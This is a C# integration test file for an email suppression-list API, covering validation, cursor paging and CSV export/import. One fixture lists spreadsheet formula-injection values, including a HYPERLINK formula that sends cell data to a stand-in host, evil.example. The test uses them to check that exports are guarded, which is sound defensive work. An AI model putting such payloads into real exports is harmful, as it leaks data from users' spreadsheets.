using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using EmailList.Core.Suppression;

namespace EmailList.QueryApi.Tests;

[Collection(QueryApiGroup.Name)]
public sealed class SuppressionListTests(QueryApiFixture fixture)
{
    [Fact]
    public async Task An_address_put_on_the_list_is_normalized_listed_and_removed()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");

        var put = await client.PutJsonAsync("/suppression-list/Jane.Doe@Example.COM", new { reason = "manual" });
        Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        var entry = await put.JsonAsync();
        Assert.Equal("jane.doe@example.com", entry.GetProperty("email").GetString());
        Assert.Equal("MANUAL", entry.GetProperty("reason").GetString());
        Assert.Equal("api", entry.GetProperty("source").GetString());

        var one = await client.GetJsonAsync("/suppression-list/jane.doe@example.com");
        Assert.Equal("MANUAL", one.GetProperty("reason").GetString());
        var list = await client.GetJsonAsync("/suppression-list");
        Assert.Equal(["jane.doe@example.com"], Emails(list));
        Assert.NotNull(await fixture.Suppressions.GetAsync(tenant.Id, "jane.doe@example.com", CancellationToken.None));

        Assert.Equal(HttpStatusCode.NoContent, (await client.DeleteAsync("/suppression-list/JANE.DOE@example.com")).StatusCode);
        Assert.Empty(Emails(await client.GetJsonAsync("/suppression-list")));
        Assert.Equal(HttpStatusCode.NotFound, (await client.DeleteAsync("/suppression-list/jane.doe@example.com")).StatusCode);
        await client.GetJsonAsync("/suppression-list/jane.doe@example.com", HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Putting_an_address_again_replaces_its_reason()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");

        await client.PutJsonAsync("/suppression-list/bob@example.com", new { reason = "BOUNCE" });
        await client.PutJsonAsync("/suppression-list/bob@example.com", new { reason = "UNSUBSCRIBE" });

        var list = await client.GetJsonAsync("/suppression-list");
        Assert.Equal("UNSUBSCRIBE", Assert.Single(list.GetProperty("items").EnumerateArray()).GetProperty("reason").GetString());
    }

    [Fact]
    public async Task The_list_filters_by_reason_and_prefix_and_pages_by_cursor()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");
        for (var i = 0; i < 7; i++)
        {
            await client.PutJsonAsync($"/suppression-list/a{i}@example.com", new { reason = i % 2 == 0 ? "BOUNCE" : "COMPLAINT" });
        }

        await client.PutJsonAsync("/suppression-list/zed@example.com", new { reason = "BOUNCE" });

        Assert.Equal(["a0@example.com", "a2@example.com", "a4@example.com", "a6@example.com", "zed@example.com"],
            Emails(await client.GetJsonAsync("/suppression-list?reason=bounce")));
        Assert.Equal(7, Emails(await client.GetJsonAsync("/suppression-list?prefix=A")).Count);
        Assert.Equal(["a1@example.com", "a3@example.com", "a5@example.com"], Emails(await client.GetJsonAsync("/suppression-list?prefix=a&reason=COMPLAINT")));

        var seen = new List<string>();
        string? cursor = null;
        do
        {
            var page = await client.GetJsonAsync("/suppression-list?limit=3" + (cursor is null ? "" : "&cursor=" + Uri.EscapeDataString(cursor)));
            seen.AddRange(Emails(page));
            cursor = page.GetProperty("nextCursor").GetString();
        }
        while (cursor is not null);

        Assert.Equal(8, seen.Count);
        Assert.Equal(seen.Order(StringComparer.Ordinal), seen);
    }

    [Fact]
    public async Task A_suppression_cursor_used_with_another_filter_or_altered_is_refused()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");
        for (var i = 0; i < 3; i++)
        {
            await client.PutJsonAsync($"/suppression-list/c{i}@example.com", new { reason = "MANUAL" });
        }

        var cursor = (await client.GetJsonAsync("/suppression-list?limit=1")).GetProperty("nextCursor").GetString()!;

        await client.GetJsonAsync("/suppression-list?limit=1&reason=MANUAL&cursor=" + Uri.EscapeDataString(cursor), HttpStatusCode.BadRequest);
        await client.GetJsonAsync("/suppression-list?limit=1&cursor=" + Uri.EscapeDataString("x" + cursor), HttpStatusCode.BadRequest);
    }

    [Theory]
    [InlineData("PUT", "/suppression-list/not-an-address", "{\"reason\":\"MANUAL\"}", "email")]
    [InlineData("PUT", "/suppression-list/Jane%20%3Cjane@example.com%3E", "{\"reason\":\"MANUAL\"}", "email")]
    [InlineData("PUT", "/suppression-list/jane@localhost", "{\"reason\":\"MANUAL\"}", "email")]
    [InlineData("PUT", "/suppression-list/jane@example.com", "{\"reason\":\"SPAM\"}", "reason")]
    [InlineData("PUT", "/suppression-list/jane@example.com", "{}", "reason")]
    [InlineData("DELETE", "/suppression-list/nope", null, "email")]
    [InlineData("GET", "/suppression-list?reason=SPAM", null, "reason")]
    [InlineData("GET", "/suppression-list?limit=1001", null, "limit")]
    [InlineData("GET", "/suppression-list?email=x", null, "email")]
    public async Task A_bad_address_reason_or_parameter_is_refused_with_the_reason(string method, string uri, string? body, string field)
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");
        using var request = new HttpRequestMessage(new HttpMethod(method), uri);
        if (body is not null)
        {
            request.Content = new StringContent(body, System.Text.Encoding.UTF8, "application/json");
        }

        using var response = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains(field, (await response.JsonAsync()).ErrorFields());
    }

    [Theory]
    [InlineData("{\"reason\":\"MANUAL\",\"note\":\"x\"}", "Unknown field 'note'")]
    [InlineData("{\"reason\":5}", "'$.reason' has the wrong type")]
    [InlineData("{\"reason\":\"MANUAL\",}", "not valid JSON (line 1, byte 20)")]
    [InlineData("{\"reason\":\"MANUAL\",\"reason\":\"BOUNCE\"}", "more than once")]
    public async Task A_body_that_does_not_fit_says_which_field_without_naming_our_types(string body, string mentioned)
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");

        using var response = await client.PutAsync("/suppression-list/jane@example.com",
            new StringContent(body, System.Text.Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var detail = (await response.JsonAsync()).GetProperty("detail").GetString()!;
        Assert.Contains(mentioned, detail, StringComparison.Ordinal);
        Assert.DoesNotContain("EmailList.", detail, StringComparison.Ordinal);
        Assert.DoesNotContain("System.", detail, StringComparison.Ordinal);
        Assert.DoesNotContain("reader options", detail, StringComparison.Ordinal);
        await client.GetJsonAsync("/suppression-list/jane@example.com", HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task A_PUT_without_a_JSON_body_says_what_to_send()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "suppression:write");

        using var response = await client.PutAsync("/suppression-list/jane@example.com", new StringContent("reason=MANUAL", System.Text.Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("{\"reason\":\"MANUAL\"}", (await response.JsonAsync()).GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_CSV_export_imports_back_into_the_same_list()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");
        await client.PutJsonAsync("/suppression-list/plain@example.com", new { reason = "BOUNCE" });
        await client.PutJsonAsync("/suppression-list/%22with,comma%22@example.com", new { reason = "COMPLAINT" });
        await client.PutJsonAsync("/suppression-list/%22quo%5C%22te%22@example.com", new { reason = "UNSUBSCRIBE" });
        for (var i = 0; i < 1500; i++)
        {
            await fixture.Suppressions.PutAsync(new SuppressionEntry(tenant.Id, $"bulk{i:0000}@example.com", SuppressionReason.Manual, "api", DateTimeOffset.UtcNow), CancellationToken.None);
        }

        using var export = await client.GetAsync("/suppression-list/export");
        Assert.Equal(HttpStatusCode.OK, export.StatusCode);
        Assert.Equal("text/csv", export.Content.Headers.ContentType?.MediaType);
        var csv = await export.Content.ReadAsStringAsync();
        Assert.StartsWith("email,reason,source,createdAt\r\n", csv, StringComparison.Ordinal);
        Assert.Equal(1504, csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);

        var other = await fixture.CreateTenantAsync();
        using var otherClient = fixture.Client(other.Id, "events:read", "suppression:write");
        using var import = await otherClient.PostAsync("/suppression-list/import", HttpJson.Csv(csv));
        Assert.Equal(HttpStatusCode.OK, import.StatusCode);
        var report = await import.JsonAsync();
        Assert.Equal(1503, report.GetProperty("imported").GetInt32());
        Assert.Equal(0, report.GetProperty("skipped").GetInt32());

        var again = await (await otherClient.GetAsync("/suppression-list/export")).Content.ReadAsStringAsync();
        Assert.Equal(WithoutDates(csv), WithoutDates(again));
    }

    // Values a spreadsheet would run as formulas, and the RFC 4180 cases: commas, quotes, line breaks.
    private static readonly (string Email, string Source)[] AwkwardEntries =
    [
        ("=1+2@example.com", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
        ("+1@example.com", "+cmd"),
        ("-2@example.com", "-2+3"),
        ("plain@example.com", "@SUM(1)"),
        ("'=quoted@example.com", "'=already guarded"),
        ("'plain@example.com", "'single quote"),
        ("comma@example.com", "a, b"),
        ("quote@example.com", "say \"hi\""),
        ("break@example.com", "line one\r\nline two"),
        ("tab@example.com", "\t=1"),
        ("cr@example.com", "\r=1"),
    ];

    [Fact]
    public async Task The_CSV_export_is_RFC_4180_and_guards_every_cell_a_spreadsheet_would_run_as_a_formula()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read");
        foreach (var (email, source) in AwkwardEntries)
        {
            await fixture.Suppressions.PutAsync(new SuppressionEntry(tenant.Id, email, SuppressionReason.Manual, source, DateTimeOffset.UtcNow), CancellationToken.None);
        }

        var csv = await (await client.GetAsync("/suppression-list/export")).Content.ReadAsStringAsync();

        // Parsed by an independent RFC 4180 reader, not our importer.
        using var parser = new Microsoft.VisualBasic.FileIO.TextFieldParser(new StringReader(csv))
        {
            TextFieldType = Microsoft.VisualBasic.FileIO.FieldType.Delimited,
            HasFieldsEnclosedInQuotes = true,
            TrimWhiteSpace = false,
        };
        parser.SetDelimiters(",");
        Assert.Equal(["email", "reason", "source", "createdAt"], parser.ReadFields()!);
        var rows = new Dictionary<string, string[]>();
        while (parser.ReadFields() is { } fields)
        {
            Assert.Equal(4, fields.Length);
            rows[fields[0]] = fields;
        }

        Assert.Equal(AwkwardEntries.Length, rows.Count);
        foreach (var (email, source) in AwkwardEntries)
        {
            var row = rows[Guarded(email)];
            Assert.Equal("MANUAL", row[1]);
            // TextFieldParser reads line by line, so a line break inside a field comes back as whichever it likes.
            Assert.Equal(Guarded(source).ReplaceLineEndings("\n"), row[2].ReplaceLineEndings("\n"));
        }

        Assert.Contains(",\"'\r=1\",", csv, StringComparison.Ordinal);

        Assert.All(rows.Values.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"'{cell}' would run as a formula."));
    }

    [Fact]
    public async Task An_export_with_guarded_cells_imports_back_to_the_same_addresses_reasons_and_sources()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read");
        var importable = AwkwardEntries.Where(e => !e.Source.Any(char.IsControl)).ToList();
        foreach (var (email, source) in importable)
        {
            await fixture.Suppressions.PutAsync(new SuppressionEntry(tenant.Id, email, SuppressionReason.Complaint, source, DateTimeOffset.UtcNow), CancellationToken.None);
        }

        var csv = await (await client.GetAsync("/suppression-list/export")).Content.ReadAsStringAsync();
        var other = await fixture.CreateTenantAsync();
        using var otherClient = fixture.Client(other.Id, "events:read", "suppression:write");
        using var import = await otherClient.PostAsync("/suppression-list/import", HttpJson.Csv(csv));

        Assert.Equal(HttpStatusCode.OK, import.StatusCode);
        Assert.Equal(importable.Count, (await import.JsonAsync()).GetProperty("imported").GetInt32());
        foreach (var (email, source) in importable)
        {
            var entry = await fixture.Suppressions.GetAsync(other.Id, email, CancellationToken.None);
            Assert.NotNull(entry);
            Assert.Equal((SuppressionReason.Complaint, source), (entry.Reason, entry.Source));
        }
    }

    private static string Guarded(string value) => value.Length > 0 && "=+-@\t\r'".Contains(value[0]) ? "'" + value : value;

    [Fact]
    public async Task Bad_rows_are_skipped_and_reported_by_line_while_good_rows_are_imported()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");
        var csv = string.Join("\n",
            "email,reason",
            "good1@example.com,BOUNCE",
            "not-an-address,BOUNCE",
            "good2@example.com,SPAM",
            "\"multi",
            "line@example.com\",MANUAL",
            "good3@example.com,complaint,extra",
            "GOOD1@example.com,MANUAL",
            "",
            "good4@example.com,unsubscribe",
            "");

        using var response = await client.PostAsync("/suppression-list/import", HttpJson.Csv(csv));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var report = await response.JsonAsync();
        Assert.Equal(2, report.GetProperty("imported").GetInt32());
        Assert.Equal(5, report.GetProperty("skipped").GetInt32());
        var errors = report.GetProperty("errors").EnumerateArray().ToDictionary(e => e.GetProperty("line").GetInt32(), e => e.GetProperty("error").GetString()!);
        Assert.Equal([3, 4, 5, 7, 8], errors.Keys.Order());
        Assert.Contains("not a valid email address", errors[3], StringComparison.Ordinal);
        Assert.Contains("MANUAL, BOUNCE, COMPLAINT, UNSUBSCRIBE", errors[4], StringComparison.Ordinal);
        Assert.Contains("3 fields", errors[7], StringComparison.Ordinal);
        Assert.Contains("line 2", errors[8], StringComparison.Ordinal);
        Assert.Equal(["good1@example.com", "good4@example.com"], Emails(await client.GetJsonAsync("/suppression-list")));
        Assert.Equal("import", (await client.GetJsonAsync("/suppression-list/good4@example.com")).GetProperty("source").GetString());
    }

    [Fact]
    public async Task An_import_without_the_header_is_refused_and_imports_nothing()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");

        using var response = await client.PostAsync("/suppression-list/import", HttpJson.Csv("jane@example.com,BOUNCE\n"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("email,reason,source,createdAt", (await response.JsonAsync()).GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Empty(Emails(await client.GetJsonAsync("/suppression-list")));
    }

    [Fact]
    public async Task An_import_that_is_not_CSV_is_415()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "suppression:write");

        using var response = await client.PostAsJsonAsync("/suppression-list/import", new { email = "jane@example.com" });

        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
    }

    [Fact]
    public async Task An_import_over_5_MB_is_413_and_imports_nothing()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");
        var csv = "email,reason\n" + string.Concat(Enumerable.Range(0, 170_000).Select(i => $"someone{i:000000}@example.com,BOUNCE\n"));
        Assert.True(csv.Length > 5 * 1024 * 1024);

        using var response = await client.PostAsync("/suppression-list/import", HttpJson.Csv(csv));

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Empty(Emails(await client.GetJsonAsync("/suppression-list")));
    }

    [Fact]
    public async Task An_import_over_50000_rows_is_refused_and_imports_nothing()
    {
        var tenant = await fixture.CreateTenantAsync();
        using var client = fixture.Client(tenant.Id, "events:read", "suppression:write");
        var csv = "email,reason\n" + string.Concat(Enumerable.Range(0, 50_001).Select(i => $"r{i}@e.co,BOUNCE\n"));

        using var response = await client.PostAsync("/suppression-list/import", HttpJson.Csv(csv));

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Contains("50000", (await response.JsonAsync()).GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Empty(Emails(await client.GetJsonAsync("/suppression-list")));
    }

    private static List<string> Emails(JsonElement page) =>
        page.GetProperty("items").EnumerateArray().Select(e => e.GetProperty("email").GetString()!).ToList();

    private static string WithoutDates(string csv) =>
        string.Join("\n", csv.Split("\r\n").Select(line => line.Length == 0 || line.StartsWith("email,", StringComparison.Ordinal) ? line : line[..line.LastIndexOf(',')]));
}
